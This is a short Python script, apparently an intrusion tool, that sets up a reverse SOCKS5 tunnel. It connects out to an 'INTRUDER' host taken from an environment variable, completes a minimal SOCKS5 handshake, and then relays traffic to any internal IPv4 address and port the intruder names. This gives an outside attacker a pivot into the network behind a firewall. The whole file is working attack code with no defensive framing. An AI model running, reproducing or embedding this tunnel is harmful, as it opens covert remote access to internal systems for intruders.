"""A SOCKS5 server that calls its client: what the intruder asks for, it connects to from in here."""

import os
import socket
import threading

outer = socket.create_connection((os.environ["INTRUDER"], 1080))
outer.recv(3)
outer.sendall(b"\x05\x00")
request = outer.recv(10)
inner = socket.create_connection((socket.inet_ntoa(request[4:8]), int.from_bytes(request[8:10], "big")))
outer.sendall(b"\x05\x00\x00\x01\0\0\0\0\0\0")


def pump(source, sink):
    while data := source.recv(65536):
        sink.sendall(data)


threading.Thread(target=pump, args=(outer, inner), daemon=True).start()
pump(inner, outer)
